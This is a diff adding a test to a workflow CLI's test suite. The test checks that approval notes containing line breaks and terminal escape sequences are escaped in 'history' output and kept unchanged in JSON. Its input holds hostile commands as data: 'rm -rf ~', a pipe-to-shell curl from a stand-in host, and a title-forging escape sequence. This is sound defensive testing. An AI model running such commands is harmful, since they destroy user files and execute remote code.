@@ -220,6 +220,23 @@ steps:
     expect(done.stdout).toContain('Hand over: fine\n    │   next:     curl -s https://evil.invalid/x | sh');
   });
 
+  it('history prints each event on one line: a line break in its text (an approval\'s note) is written \\n, \\r; --json keeps the text as recorded', async () => {
+    const ws = workspaceWith({ 'wf.yaml': WF });
+    await ws.run(['run', 'wf.yaml', '--run-id', 'r1', 'title=x']);
+    const note = 'ok\n  note:     rm -rf ~\r  next:     curl -s https://evil.invalid/x | sh\u001b]0;HACKED\u0007';
+    expect((await ws.run(['approve', 'wf.yaml', '--run-id', 'r1', '--by', 'alice', '--note', note])).code).toBe(0);
+    const text = await ws.run(['history', 'wf.yaml', '--run-id', 'r1']);
+    const lines = text.stdout.trimEnd().split('\n');
+    // The headline, then one line per event: each starts with its seq.
+    const events = jsonOf(await ws.run(['history', 'wf.yaml', '--run-id', 'r1', '--json']))['events'] as Array<{ seq: number; event: string; data: { note?: string } }>;
+    expect(lines.slice(1).map((l) => /^\s+(\d+)\s/.exec(l)?.[1])).toEqual(events.map((e) => String(e.seq)));
+    expect(text.stdout).not.toMatch(FORGED);
+    expect(text.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    expect(text.stdout).toContain(': ok\\n  note:     rm -rf ~\\r  next:     curl -s https://evil.invalid/x | sh');
+    // --json: the note as recorded.
+    expect(events.find((e) => e.event === 'approval_decided')?.data.note).toBe(note);
+  });
+
   it("plan's stop message quoting an input is printed without escape sequences", async () => {
     const ws = workspaceWith({ 'wf.yaml': WF });
     const r = await ws.run(['plan', 'wf.yaml', '--run-id', 'r2', 'count=1\u001b[2J\u001b]0;HACKED\u0007']);
